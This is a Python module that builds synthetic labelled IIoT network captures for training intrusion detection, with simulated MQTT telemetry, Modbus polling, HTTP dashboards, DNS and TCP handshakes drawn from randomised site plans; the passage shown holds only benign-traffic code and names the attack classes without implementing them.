"""Labelled Ethernet traffic of an IIoT site: the 15 Edge-IIoTset classes as real protocol exchanges.

Each capture session is a different site: its own subnet, gateway, hosts with their own MAC vendors
and operating systems (TTL, window, TCP options), its own MQTT topics and sensor periods, Modbus
register maps and poll rates, HTTP ports and paths, and its own capture start time. Benign traffic
(MQTT telemetry, Modbus/TCP polling, HTTP dashboards, DNS, NTP, ARP, ICMP, and the everyday LAN
traffic of :mod:`trainer.lab.everyday`) runs through the whole session; every attack is an episode
placed somewhere inside it, built the way the real tool sends it
(hping3 floods with random sources, nmap SYN/connect/UDP/OS-detection probes, masscan, Nikto, sqlmap,
hydra, arpspoof, ...), with the victims' replies. Frames made by an attack episode (including the
victims' replies to it) carry the attack's label, every other frame is ``Normal``.

Why all this variation: a model trained on one address plan learns the addresses. Nothing an attack
is told by here is a lab constant: addresses, ports, MACs, timing and payload mixes are drawn per
session, so that only what the attack *does* is common to all sessions.
"""

from __future__ import annotations

import base64
import csv
import json
import logging
import os
import random
import socket
import struct
from collections.abc import Callable
from dataclasses import dataclass, field
from http import HTTPStatus
from pathlib import Path
from typing import Any

from trainer.lab import wire
from trainer.lab.wire import ACK, CWR, ECE, FIN, PSH, RST, SYN, URG

NORMAL = "Normal"
ATTACKS = (
    "Backdoor", "DDoS_HTTP", "DDoS_ICMP", "DDoS_TCP", "DDoS_UDP", "Fingerprinting", "MITM", "Password",
    "Port_Scanning", "Ransomware", "SQL_injection", "Uploading", "Vulnerability_scanner", "XSS",
)
CLASSES = (NORMAL, *ATTACKS)

log = logging.getLogger(__name__)

# --- host profiles ---------------------------------------------------------------------------------
#: vendor OUIs seen on IIoT sites (Raspberry Pi, Espressif, Siemens, Schneider, Wago, Dell, Intel, VMware...)
OUIS = {
    "sensor": ["b827eb", "dca632", "e45f01", "240ac4", "30aea4", "a4cf12", "7cdfa1", "84f3eb"],
    "plc": ["001b1b", "0080f4", "000e8c", "0030de", "00a045", "001d9c"],
    "server": ["000c29", "005056", "3cecef", "f8bc12", "b083fe", "525400", "001c42"],
    "client": ["3c5282", "f0def1", "a45e60", "8c8590", "dc4a3e", "5c879c"],
    "gateway": ["001e42", "4c5e0c", "e4956e", "000d48", "d8b370"],
}


@dataclass(frozen=True)
class OsProfile:
    """What an operating system's TCP/IP stack puts on the wire."""

    name: str
    ttl: int
    window: int
    mss: int
    wscale: int | None
    sack: bool
    ts: bool
    eph: tuple[int, int]
    ipid: str  # "inc" (global counter), "rand" (per packet), "zero_df" (Linux: 0 on DF-only SYN/ACK...)


OS_PROFILES = {
    "linux": OsProfile("linux", 64, 64240, 1460, 7, True, True, (32768, 60999), "inc"),
    "linux_old": OsProfile("linux_old", 64, 29200, 1460, 7, True, True, (32768, 61000), "inc"),
    "windows": OsProfile("windows", 128, 64240, 1460, 8, True, False, (49152, 65535), "inc"),
    "windows7": OsProfile("windows7", 128, 8192, 1460, 2, True, False, (49152, 65535), "inc"),
    "lwip": OsProfile("lwip", 255, 5744, 1436, None, False, False, (49152, 65535), "inc"),
    "rtos": OsProfile("rtos", 64, 2920, 1460, None, False, False, (1024, 5000), "inc"),
    "bsd": OsProfile("bsd", 64, 65535, 1460, 6, True, True, (49152, 65535), "rand"),
}


@dataclass
class Host:
    """A station on the capture's network (or, with ``external``, one reached through the gateway)."""

    name: str
    ip: bytes
    mac: bytes
    os: OsProfile
    ttl: int
    external: bool = False
    ipid: int = 0
    next_port: int = 0

    @property
    def addr(self) -> str:
        return socket.inet_ntoa(self.ip)

    def ident(self, rng: random.Random) -> int:
        if self.os.ipid == "rand":
            return rng.randrange(65536)
        self.ipid = (self.ipid + 1) & 0xFFFF
        return self.ipid

    def port(self, rng: random.Random) -> int:
        lo, hi = self.os.eph
        if not self.next_port:
            self.next_port = rng.randint(lo, hi)
        self.next_port += rng.choice((1, 1, 1, 2, 3))
        if self.next_port > hi:
            self.next_port = lo + (self.next_port - hi)
        return self.next_port


def rand_mac(rng: random.Random, kind: str) -> bytes:
    return bytes.fromhex(rng.choice(OUIS[kind])) + rng.randbytes(3)


def public_ip(rng: random.Random) -> bytes:
    """A routable-looking IPv4 address (no private, loopback, multicast or reserved first octets)."""
    while True:
        a = rng.randint(1, 223)
        if a not in (10, 127, 169, 172, 192, 100, 0):
            return bytes((a, rng.randrange(256), rng.randrange(256), rng.randint(1, 254)))


# --- the capture -----------------------------------------------------------------------------------
class Capture:
    """Frames of one capture session, each with its label; sorted by time when written."""

    def __init__(self, rng: random.Random, pad_short: bool, offload: bool = False):
        self.rng = rng
        self.pad_short = pad_short
        #: captured on a host whose NIC offloads segmentation (TSO/GSO sending, GRO receiving): bulk
        #: data shows as segments of several MSS, up to 64 KB, as tcpdump and Wireshark record it there
        self.offload = offload
        self.frames: list[tuple[float, int, bytes, str]] = []

    def add(self, ts: float, frame: bytes, label: str) -> None:
        self.frames.append((ts, len(self.frames), frame, label))

    def ip(self, ts: float, label: str, src: Host, dst: Host, proto: int, l4: bytes, *, tos: int = 0,
           df: bool = True, ttl: int | None = None, eth_src: bytes | None = None, eth_dst: bytes | None = None,
           src_ip: bytes | None = None, ident: int | None = None) -> None:
        pkt = wire.ipv4(src_ip or src.ip, dst.ip, proto, l4, ttl or src.ttl,
                        src.ident(self.rng) if ident is None else ident, df=df, tos=tos)
        self.add(ts, wire.ether(eth_dst or dst.mac, eth_src or src.mac, wire.ETH_IP, pkt, self.pad_short), label)

    def udp(self, ts: float, label: str, src: Host, dst: Host, sport: int, dport: int, payload: bytes,
            **kw: Any) -> None:
        self.ip(ts, label, src, dst, wire.PROTO_UDP, wire.udp(kw.pop("src_ip", None) or src.ip, dst.ip, sport,
                                                              dport, payload), **kw)

    def arp(self, ts: float, label: str, op: int, smac: bytes, sip: bytes, tmac: bytes, tip: bytes,
            eth_dst: bytes | None = None) -> None:
        dst = eth_dst or (b"\xff" * 6 if op == 1 else tmac)
        self.add(ts, wire.ether(dst, smac, wire.ETH_ARP, wire.arp(op, smac, sip, tmac, tip), self.pad_short), label)


class Tcp:
    """One TCP connection with sequence/ack state, delayed ACKs, retransmissions and teardown."""

    def __init__(self, cap: Capture, label: str, cli: Host, srv: Host, dport: int, t: float, rtt: float,
                 loss: float = 0.0, sport: int | None = None):
        self.cap, self.label, self.cli, self.srv, self.rng = cap, label, cli, srv, cap.rng
        self.sport = sport or cli.port(cap.rng)
        self.dport = dport
        self.t, self.rtt, self.loss = t, rtt, loss
        self.seq = {True: self.rng.getrandbits(32), False: self.rng.getrandbits(32)}
        self.ts_on = cli.os.ts and srv.os.ts
        self.ts_base = {True: self.rng.getrandbits(31), False: self.rng.getrandbits(31)}
        self.mss = min(cli.os.mss, srv.os.mss)
        self.open_ = False
        #: bytes/s the path carries in bulk (None: LAN speed, a segment every 0.1-0.5 ms)
        self.rate: float | None = None
        #: segments per ACK in bulk (2: delayed ACKs; 1: the receiver ACKs each, as quick-ACK does)
        self.ack_every = 2

    # one segment from the client (True) or the server (False)
    def seg(self, from_cli: bool, flags: int, payload: bytes = b"", options: bytes | None = None,
            seq: int | None = None, window: int | None = None, dt: float = 0.0) -> None:
        self.t += dt
        a, b = (self.cli, self.srv) if from_cli else (self.srv, self.cli)
        sport, dport = (self.sport, self.dport) if from_cli else (self.dport, self.sport)
        if options is None:
            options = (wire.OPT_NOP + wire.OPT_NOP + wire.opt_ts(self.ts_base[from_cli] + int(self.t * 1000),
                                                                 self.ts_base[not from_cli] + int(self.t * 1000) - 1)
                       if self.ts_on and self.open_ else b"")
        s = self.seq[from_cli] if seq is None else seq
        ack = self.seq[not from_cli] if flags & ACK else 0
        win = window if window is not None else self._window(a)
        self.cap.ip(self.t, self.label, a, b, wire.PROTO_TCP,
                    wire.tcp(a.ip, b.ip, sport, dport, s, ack, flags, win, options, payload))
        if seq is None:
            self.seq[from_cli] = (s + len(payload) + (1 if flags & (SYN | FIN) else 0)) & 0xFFFFFFFF

    def _window(self, h: Host) -> int:
        w = h.os.window
        if self.open_ and h.os.wscale:
            w = max(1, (w << 2) >> h.os.wscale) if h.os.name.startswith("linux") else w >> min(h.os.wscale, 2)
        return min(w, 65535)

    @staticmethod
    def syn_options(h: Host) -> bytes:
        o = h.os
        if o.name.startswith("windows"):
            return wire.opt_mss(o.mss) + wire.OPT_NOP + wire.opt_ws(o.wscale or 0) + wire.OPT_NOP + wire.OPT_NOP \
                + wire.OPT_SACKOK
        if o.ts:
            return wire.opt_mss(o.mss) + wire.OPT_SACKOK + wire.opt_ts(0, 0) + wire.OPT_NOP \
                + wire.opt_ws(o.wscale or 0)
        return wire.opt_mss(o.mss)

    def open(self, refused: bool = False) -> bool:
        """Three-way handshake (SYN retransmitted after 1 s now and then); False when refused (RST)."""
        opts = self.syn_options(self.cli)
        if self.ts_on:
            opts = opts.replace(wire.opt_ts(0, 0), wire.opt_ts(self.ts_base[True] + int(self.t * 1000), 0))
        if self.rng.random() < self.loss:
            self.seg(True, SYN, options=opts, seq=self.seq[True])
            self.t += 1.0 + self.rng.random() * 0.05
        self.seg(True, SYN, options=opts)
        if refused:
            self.seg(False, RST | ACK, options=b"", dt=self.rtt / 2)
            return False
        sopts = self.syn_options(self.srv)
        if self.ts_on:
            sopts = sopts.replace(wire.opt_ts(0, 0), wire.opt_ts(self.ts_base[False] + int(self.t * 1000),
                                                                 self.ts_base[True] + int(self.t * 1000)))
        elif not self.cli.os.wscale:
            sopts = wire.opt_mss(self.srv.os.mss)
        self.seg(False, SYN | ACK, options=sopts, dt=self.rtt / 2)
        self.open_ = True
        self.seg(True, ACK, dt=self.rtt / 2)
        return True

    def send(self, from_cli: bool, data: bytes, ack: bool = True) -> None:
        """Send ``data`` in MSS-sized segments (several MSS each on an offloading capture host), paced
        by :attr:`rate`; the peer ACKs every :attr:`ack_every` segments and the last one."""
        size = self.mss
        if self.cap.offload and len(data) > 2 * self.mss:
            size = self.mss * self.rng.randint(2, 64_000 // self.mss)
        chunks = [data[i:i + size] for i in range(0, len(data), size)] or [b""]
        for i, chunk in enumerate(chunks):
            last = i == len(chunks) - 1
            flags = ACK | (PSH if last else 0)
            if self.rng.random() < self.loss:  # lost on the way: sent, then sent again after the RTO
                s = self.seq[from_cli]
                self.seg(from_cli, flags, chunk, dt=0.0002)
                self.seg(from_cli, flags, chunk, seq=s, dt=max(0.2, self.rtt * 3) + self.rng.random() * 0.05)
            else:
                gap = len(chunk) / self.rate if self.rate else 0.0001
                self.seg(from_cli, flags, chunk, dt=gap + self.rng.random() * max(0.0004, gap * 0.3))
            if ack and (last or i % self.ack_every == self.ack_every - 1):
                self.seg(not from_cli, ACK, dt=self.rtt / 2 + (self.rng.random() * 0.04 if last else 0))
                self.t -= self.rtt / 2  # the sender keeps sending while the ACK is in flight

    def exchange(self, req: bytes, resp: bytes, think: float) -> None:
        """Request, server think time, response, client ACK: the shape of HTTP, Modbus, MQTT QoS 1."""
        self.send(True, req, ack=False)
        self.t += think
        if resp:
            self.send(False, resp, ack=False)
            self.seg(True, ACK, dt=self.rtt / 2 + self.rng.random() * 0.01)

    def close(self, from_cli: bool = True) -> None:
        """FIN, FIN/ACK, ACK (or FIN, ACK, FIN, ACK)."""
        self.seg(from_cli, FIN | ACK, dt=0.0005)
        if self.rng.random() < 0.5:
            self.seg(not from_cli, FIN | ACK, dt=self.rtt / 2)
        else:
            self.seg(not from_cli, ACK, dt=self.rtt / 2)
            self.seg(not from_cli, FIN | ACK, dt=0.001 + self.rng.random() * 0.01)
        self.seg(from_cli, ACK, dt=self.rtt / 2)

    def reset(self, from_cli: bool = True) -> None:
        self.seg(from_cli, RST | ACK, dt=0.0005)


# --- application payloads --------------------------------------------------------------------------
def _mqtt_len(n: int) -> bytes:
    out = bytearray()
    while True:
        b, n = n % 128, n // 128
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _mstr(s: str | bytes) -> bytes:
    b = s.encode() if isinstance(s, str) else s
    return struct.pack("!H", len(b)) + b


def mqtt(first: int, body: bytes) -> bytes:
    return bytes((first,)) + _mqtt_len(len(body)) + body


def mqtt_connect(client_id: str, keepalive: int, v311: bool = True, clean: bool = True,
                 user: str | None = None, password: str | None = None) -> bytes:
    flags = (0x02 if clean else 0) | (0x80 if user is not None else 0) | (0x40 if password is not None else 0)
    head = (_mstr("MQTT") + b"\x04") if v311 else (_mstr("MQIsdp") + b"\x03")
    body = head + bytes((flags,)) + struct.pack("!H", keepalive) + _mstr(client_id)
    if user is not None:
        body += _mstr(user)
    if password is not None:
        body += _mstr(password)
    return mqtt(0x10, body)


def mqtt_publish(topic: str, payload: bytes, qos: int, pid: int, retain: bool = False, dup: bool = False) -> bytes:
    body = _mstr(topic) + (struct.pack("!H", pid) if qos else b"") + payload
    return mqtt(0x30 | (0x08 if dup else 0) | (qos << 1) | int(retain), body)


def modbus(tid: int, unit: int, pdu: bytes) -> bytes:
    """MBAP header (transaction id, protocol 0, length = unit id + PDU) and the PDU."""
    return struct.pack("!HHHB", tid & 0xFFFF, 0, len(pdu) + 1, unit) + pdu


def dns_name(name: str) -> bytes:
    return b"".join(bytes((len(p),)) + p.encode() for p in name.split(".") if p) + b"\0"


def ssdp_msearch(mx: int, st: str) -> bytes:
    """An SSDP M-SEARCH for ``st`` (UDP 1900, multicast or unicast), answers wanted within ``mx`` seconds."""
    return (f"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: {mx}\r\n"
            f"ST: {st}\r\n\r\n").encode()


def dns_query(qid: int, name: str, qtype: int = 1) -> bytes:
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + dns_name(name) + struct.pack("!HH", qtype, 1)


def dns_answer(qid: int, name: str, qtype: int, addrs: list[bytes], ttl: int, rcode: int = 0) -> bytes:
    ans = [b"\xc0\x0c" + struct.pack("!HHIH", qtype, 1, ttl, len(a)) + a for a in addrs]
    return (struct.pack("!HHHHHH", qid, 0x8180 | rcode, 1, len(ans), 0, 0) + dns_name(name)
            + struct.pack("!HH", qtype, 1) + b"".join(ans))


def http_request(rng: random.Random, method: str, host: str, path: str, ua: str, body: bytes = b"",
                 ctype: str | None = None, extra: list[tuple[str, str]] | None = None, version: str = "1.1") -> bytes:
    h = [("Host", host), ("User-Agent", ua)]
    if rng.random() < 0.8:
        h.append(("Accept", rng.choice(["*/*", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                                        "application/json", "application/json, text/plain, */*"])))
    if rng.random() < 0.6:
        h.append(("Accept-Encoding", rng.choice(["gzip, deflate", "gzip, deflate, br", "identity"])))
    if rng.random() < 0.5:
        h.append(("Connection", rng.choice(["keep-alive", "close"])))
    h += extra or []
    if body or method in ("POST", "PUT"):
        h.append(("Content-Type", ctype or "application/x-www-form-urlencoded"))
        h.append(("Content-Length", str(len(body))))
    head = f"{method} {path} HTTP/{version}\r\n" + "".join(f"{k}: {v}\r\n" for k, v in h) + "\r\n"
    return head.encode() + body


#: reason phrases that later Pythons renamed (3.13: 413 "Content Too Large"), pinned so a seed gives
#: the same bytes on every Python
_PINNED_REASONS = {413: "Request Entity Too Large"}


def http_response(rng: random.Random, status: int, body: bytes, ctype: str, server: str,
                  version: str = "1.1") -> bytes:
    reason = _PINNED_REASONS.get(status) or HTTPStatus(status).phrase
    h = [("Server", server), ("Content-Type", ctype), ("Content-Length", str(len(body)))]
    if rng.random() < 0.5:
        h.insert(0, ("Date", "Mon, 01 Jan 2024 00:00:00 GMT"))
    head = f"HTTP/{version} {status} {reason}\r\n" + "".join(f"{k}: {v}\r\n" for k, v in h) + "\r\n"
    return head.encode() + body


BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/118.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/16.5 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 "
    "Safari/537.36 Edg/96.0.1054.62",
    "python-requests/2.28.1", "curl/7.81.0", "Node-RED/3.0.2",
]
SERVERS = ["nginx/1.18.0 (Ubuntu)", "Apache/2.4.41 (Ubuntu)", "lighttpd/1.4.59", "Werkzeug/2.2.2 Python/3.9.2",
           "nginx", "Apache/2.4.54 (Debian)"]
SENSOR_KINDS = ["temperature", "humidity", "water_level", "ph", "soil_moisture", "heart_rate", "flame",
                "ultrasonic", "pressure", "vibration", "co2"]


def _entropy_text(rng: random.Random, n: int) -> bytes:
    words = [b"status", b"value", b"ok", b"sensor", b"line", b"plant", b"alarm", b"none", b"true", b"false",
             b"temp", b"unit", b"id", b"ts"]
    out = bytearray()
    while len(out) < n:
        out += rng.choice(words) + rng.choice((b" ", b"=", b":", b",", b"\n")) + str(rng.randint(0, 999)).encode()
    return bytes(out[:n])


# --- the site plan ---------------------------------------------------------------------------------
@dataclass
class Site:
    """Address plan and service choices of one capture session."""

    rng: random.Random
    prefix: bytes
    gw: Host
    broker: Host
    plcs: list[Host]
    sensors: list[Host]
    hmi: Host
    web: Host
    dns: Host
    ntp: Host
    clients: list[Host]
    attacker: Host
    ext_attacker: Host
    http_port: int
    topic_root: str
    domain: str
    rtt_lan: float
    rtt_wan: float
    loss: float
    hosts: list[Host] = field(default_factory=list)

    @property
    def web_host(self) -> str:
        """The web server as an HTTP Host header names it (the port only when not 80)."""
        return f"{self.web.addr}:{self.http_port}" if self.http_port != 80 else self.web.addr

    def describe(self) -> dict[str, Any]:
        return {h.name: {"ip": h.addr, "mac": h.mac.hex(":"), "os": h.os.name, "external": h.external}
                for h in self.hosts}


def make_site(rng: random.Random) -> Site:
    """Draw a site: private subnet of any of the three RFC 1918 blocks, vendors, OSes, service choices."""
    block = rng.choice(["10", "172", "192"])
    if block == "10":
        prefix = bytes((10, rng.randrange(256), rng.randrange(256)))
    elif block == "172":
        prefix = bytes((172, rng.randint(16, 31), rng.randrange(256)))
    else:
        prefix = bytes((192, 168, rng.randrange(256)))
    used: set[int] = set()

    def addr(lo: int = 2, hi: int = 253) -> bytes:
        while True:
            x = rng.randint(lo, hi)
            if x not in used:
                used.add(x)
                return prefix + bytes((x,))

    hosts: list[Host] = []

    def mk(name: str, kind: str, oses: list[str], ip: bytes | None = None) -> Host:
        o = OS_PROFILES[rng.choice(oses)]
        h = Host(name, ip or addr(), rand_mac(rng, kind), o, o.ttl, ipid=rng.randrange(65536))
        hosts.append(h)
        return h

    gw = mk("gateway", "gateway", ["linux", "bsd"], addr(1, 1) if rng.random() < 0.7 else addr(250, 254))
    server_os = ["linux", "linux_old", "windows"]
    broker = mk("broker", "server", server_os)
    hmi = mk("hmi", "client", ["windows", "windows7", "linux"])
    web = broker if rng.random() < 0.3 else mk("web", "server", server_os)
    dns = gw if rng.random() < 0.6 else mk("dns", "server", ["linux"])
    plcs = [mk(f"plc{i}", "plc", ["rtos", "lwip", "linux"]) for i in range(rng.randint(1, 4))]
    sensors = [mk(f"sensor{i}", "sensor", ["lwip", "linux", "rtos"]) for i in range(rng.randint(3, 10))]
    clients = [mk(f"client{i}", "client", ["windows", "linux", "bsd", "windows7"]) for i in range(rng.randint(1, 3))]
    attacker = mk("attacker", "client", ["linux", "linux_old"])
    ntp_o = OS_PROFILES["linux"]
    ntp = Host("ntp", public_ip(rng), gw.mac, ntp_o, ntp_o.ttl - rng.randint(8, 20), external=True)
    ext_o = OS_PROFILES[rng.choice(["linux", "windows"])]
    ext = Host("ext_attacker", public_ip(rng), gw.mac, ext_o, ext_o.ttl - rng.randint(6, 25), external=True)
    hosts += [ntp, ext]
    return Site(rng, prefix, gw, broker, plcs, sensors, hmi, web, dns, ntp, clients, attacker, ext,
                http_port=rng.choice([80, 80, 80, 8080, 8000, 8081, 5000, 1880]),
                topic_root=rng.choice(["factory", "plant", "site", "farm", "building", "iiot", "edge"])
                + "/" + rng.choice(["line", "zone", "area", "floor", "cell"]) + str(rng.randint(1, 9)),
                domain=rng.choice(["local", "lan", "plant.internal", "corp.example", "home.arpa"]),
                rtt_lan=rng.uniform(0.0002, 0.003), rtt_wan=rng.uniform(0.015, 0.12),
                loss=rng.uniform(0.0, 0.02), hosts=hosts)


def external(site: Site, rng: random.Random, name: str = "remote") -> Host:
    o = OS_PROFILES[rng.choice(["linux", "windows", "bsd"])]
    return Host(name, public_ip(rng), site.gw.mac, o, o.ttl - rng.randint(5, 25), external=True,
                ipid=rng.randrange(65536))


def rtt(site: Site, a: Host, b: Host) -> float:
    return site.rtt_wan if (a.external or b.external) else site.rtt_lan


# --- benign traffic --------------------------------------------------------------------------------
def normal_mqtt(cap: Capture, site: Site, t0: float, t1: float, label: str = NORMAL) -> None:
    """Sensors publish telemetry to the broker; a dashboard client subscribes and receives it."""
    rng = cap.rng
    v311 = rng.random() < 0.8
    # clients connect at the start of the traffic or later (restarts, new devices); the capture may
    # begin before or after their handshakes
    def later() -> float:
        return t0 + (rng.uniform(0, 3) if rng.random() < 0.6 else rng.uniform(0, (t1 - t0) * 0.4))

    sub = Tcp(cap, label, site.hmi, site.broker, 1883, later(), site.rtt_lan, site.loss)
    sub.open()
    sub_keep = rng.choice([30, 60, 120])
    sub.exchange(mqtt_connect(f"dashboard-{rng.randrange(16**6):06x}", sub_keep, v311), mqtt(0x20, b"\x00\x00"),
                 0.001)
    sub.exchange(mqtt(0x82, struct.pack("!H", 1) + _mstr(site.topic_root + "/#") + b"\x01"),
                 mqtt(0x90, struct.pack("!H", 1) + b"\x01"), 0.001)
    forwards: list[tuple[float, str, bytes, int]] = []  # what the broker relays to the dashboard
    for i, s in enumerate(site.sensors):
        kind = rng.choice(SENSOR_KINDS)
        topic = f"{site.topic_root}/{s.name}/{kind}" if rng.random() < 0.7 else f"{site.topic_root}/{kind}"
        keep = rng.choice([10, 15, 30, 60])
        # every QoS level is in use on every site; slow sensors (period beyond keepalive) send PINGREQs
        qos = i if i < 3 else rng.choice([0, 0, 0, 1, 1, 2])
        period = (keep * rng.uniform(1.2, 3.0) if i == 0 or rng.random() < 0.2
                  else rng.choice([1, 2, 5, 10, 15, 30]) * rng.uniform(0.8, 1.2))
        fmt = rng.choice(["json", "plain", "csv"])
        base = rng.uniform(0, 100)
        c = Tcp(cap, label, s, site.broker, 1883, later(), site.rtt_lan, site.loss)
        c.open()
        creds = (f"{s.name}", f"pw{rng.randrange(10**6)}") if rng.random() < 0.3 else (None, None)
        c.exchange(mqtt_connect(f"{kind}-{rng.randrange(16**4):04x}", keep, v311, rng.random() < 0.8, *creds),
                   mqtt(0x20, b"\x00\x00"), 0.002)
        if rng.random() < 0.5:
            c.exchange(mqtt(0x82, struct.pack("!H", 1) + _mstr(f"{site.topic_root}/{s.name}/cmd") + b"\x01"),
                       mqtt(0x90, struct.pack("!H", 1) + b"\x01"), 0.001)
        pid, last_tx = 1, c.t
        t = c.t + rng.uniform(0, period)
        while t < t1:
            if t - last_tx > keep * 0.9:  # idle long enough: keepalive
                c.t = last_tx + keep * rng.uniform(0.7, 0.95)
                c.exchange(mqtt(0xC0, b""), mqtt(0xD0, b""), 0.0005)
            c.t = t
            v = base + rng.gauss(0, 2)
            body = {"json": json.dumps({"sensor": kind, "value": round(v, 2), "unit": "u",
                                        "seq": pid}).encode(),
                    "plain": f"{v:.2f}".encode(), "csv": f"{pid},{v:.3f},{rng.randint(0, 1)}".encode()}[fmt]
            pkt = mqtt_publish(topic, body, qos, pid)
            if qos == 0:
                c.send(True, pkt)
            elif qos == 1:
                c.exchange(pkt, mqtt(0x40, struct.pack("!H", pid)), 0.0008)
            else:
                c.exchange(pkt, mqtt(0x50, struct.pack("!H", pid)), 0.0008)
                c.exchange(mqtt(0x62, struct.pack("!H", pid)), mqtt(0x70, struct.pack("!H", pid)), 0.0005)
            forwards.append((c.t + 0.0003, topic, body, min(qos, 1)))
            pid = pid % 65535 + 1
            last_tx = c.t
            t += period * rng.uniform(0.9, 1.1)
        c.t = max(c.t, t1 - rng.uniform(0, 1))
        if rng.random() < 0.6:
            c.send(True, mqtt(0xE0, b""), ack=False)
            c.close(True)
        else:
            c.close(False)
    # the dashboard receives in time order, and pings when it has sent nothing for a keepalive period
    pid_sub, last_sent = 0, sub.t
    forwards.sort()
    for ft, topic, body, q in forwards:
        if ft < last_sent:  # published before the dashboard subscribed
            continue
        while ft - last_sent > sub_keep:
            sub.t = last_sent + sub_keep * rng.uniform(0.9, 1.0)
            sub.exchange(mqtt(0xC0, b""), mqtt(0xD0, b""), 0.0005)
            last_sent = sub.t
        sub.t = max(sub.t, ft)
        if q:  # broker -> dashboard at QoS 1, acknowledged by the dashboard
            pid_sub = pid_sub % 65535 + 1
            sub.send(False, mqtt_publish(topic, body, 1, pid_sub), ack=False)
            sub.send(True, mqtt(0x40, struct.pack("!H", pid_sub)), ack=False)
            sub.seg(False, ACK, dt=site.rtt_lan / 2)
            last_sent = sub.t
        else:
            sub.send(False, mqtt_publish(topic, body, 0, 0))
    sub.t = max(sub.t, t1 - 0.2)
    sub.send(True, mqtt(0xE0, b""), ack=False)
    sub.close(True)


def normal_modbus(cap: Capture, site: Site, t0: float, t1: float) -> None:
    """The HMI polls every PLC: reads of coils/registers, occasional writes, occasional exceptions."""
    rng = cap.rng
    for plc in site.plcs:
        unit = rng.choice([0, 1, 1, 1, 2, 17, 255])
        period = rng.choice([0.25, 0.5, 1.0, 2.0, 5.0]) * rng.uniform(0.9, 1.1)
        base = rng.randrange(0, 4000)
        persistent = rng.random() < 0.7
        tid = rng.randrange(65536)
        t = t0 + rng.uniform(0, period)
        c: Tcp | None = None
        while t < t1:
            if c is None or not persistent:
                c = Tcp(cap, NORMAL, site.hmi, plc, 502, t, site.rtt_lan, site.loss)
                c.open()
            c.t = max(c.t, t)
            for _ in range(rng.randint(1, 3)):
                tid = (tid + 1) & 0xFFFF
                fc = rng.choices([3, 4, 1, 2, 6, 5, 16, 15], [30, 15, 10, 5, 5, 3, 2, 1])[0]
                addr, n = base + rng.randrange(0, 200), rng.randint(1, 20)
                if fc in (1, 2):
                    req = struct.pack("!BHH", fc, addr, n * 8)
                    resp = struct.pack("!BB", fc, n) + rng.randbytes(n)
                elif fc in (3, 4):
                    req = struct.pack("!BHH", fc, addr, n)
                    resp = struct.pack("!BB", fc, 2 * n) + b"".join(struct.pack("!H", rng.randrange(0, 3000))
                                                                  for _ in range(n))
                elif fc == 5:
                    req = struct.pack("!BHH", fc, addr, rng.choice([0xFF00, 0x0000]))
                    resp = req
                elif fc == 6:
                    req = struct.pack("!BHH", fc, addr, rng.randrange(65536))
                    resp = req
                elif fc == 15:
                    req = struct.pack("!BHHB", fc, addr, n * 8, n) + rng.randbytes(n)
                    resp = struct.pack("!BHH", fc, addr, n * 8)
                else:
                    req = struct.pack("!BHHB", fc, addr, n, 2 * n) + rng.randbytes(2 * n)
                    resp = struct.pack("!BHH", fc, addr, n)
                if rng.random() < 0.02:
                    resp = struct.pack("!BB", fc | 0x80, rng.choice([1, 2, 2, 3, 4, 6]))
                c.exchange(modbus(tid, unit, req), modbus(tid, unit, resp), rng.uniform(0.001, 0.02))
            if not persistent:
                c.close(True)
            t += period * rng.uniform(0.95, 1.05)
        if c is not None and persistent:
            c.close(True)


def normal_http(cap: Capture, site: Site, t0: float, t1: float) -> None:
    """Operators' browsers and scripts load the dashboard and poll its JSON API."""
    rng = cap.rng
    srv_name = rng.choice(SERVERS)
    pages = ["/", "/index.html", "/dashboard", "/static/app.js", "/static/style.css", "/favicon.ico",
             "/api/sensors", "/api/status", "/api/plc/1", "/api/alarms?since=0", "/ui/", "/login"]
    host = site.web_host
    for cl in site.clients:
        ua = rng.choice(BROWSER_UAS)
        t = t0 + rng.uniform(0, 10)
        while t < t1:
            c = Tcp(cap, NORMAL, cl, site.web, site.http_port, t, site.rtt_lan, site.loss)
            c.open()
            for _ in range(rng.randint(1, 6)):
                path = rng.choice(pages)
                body = (json.dumps({"ok": True, "values": [round(rng.uniform(0, 100), 1)
                                                           for _ in range(rng.randint(1, 30))]}).encode()
                        if path.startswith("/api") else _entropy_text(rng, rng.randint(200, 6000)))
                ctype = "application/json" if path.startswith("/api") else "text/html; charset=utf-8"
                c.exchange(http_request(rng, "GET", host, path, ua, extra=[("Referer", f"http://{host}/")]
                                        if rng.random() < 0.3 else None),
                           http_response(rng, rng.choices([200, 404, 500], [94, 5, 1])[0],
                                         body, ctype, srv_name), rng.uniform(0.002, 0.05))
                c.t += rng.uniform(0.05, 2)
            c.close(rng.random() < 0.5)
            t = c.t + rng.expovariate(1 / rng.uniform(5, 30))


def normal_infra(cap: Capture, site: Site, t0: float, t1: float) -> None:
    """DNS lookups, NTP polls, ARP refreshes and monitoring pings."""
    rng = cap.rng
    lan = [h for h in site.hosts if not h.external]
    names = [f"broker.{site.domain}", f"plc{rng.randint(1, 9)}.{site.domain}", "pool.ntp.org", "time.google.com",
             "api.github.com", "updates.example.com", f"hmi.{site.domain}", "connectivitycheck.gstatic.com"]
    t = t0
    while t < t1:
        t += rng.expovariate(1 / rng.uniform(1.0, 4.0))
        h = rng.choice(lan)
        if h is site.dns:
            continue
        name = rng.choice(names)
        qid = rng.randrange(65536)
        sport = h.port(rng) if rng.random() < 0.8 else rng.randint(1024, 65535)
        for qtype in ([1, 28] if rng.random() < 0.3 else [1]):
            cap.udp(t, NORMAL, h, site.dns, sport, 53, dns_query(qid, name, qtype))
            if rng.random() < 0.03:  # lost: client retries the same id
                t += rng.uniform(1, 5)
                cap.udp(t, NORMAL, h, site.dns, sport, 53, dns_query(qid, name, qtype))
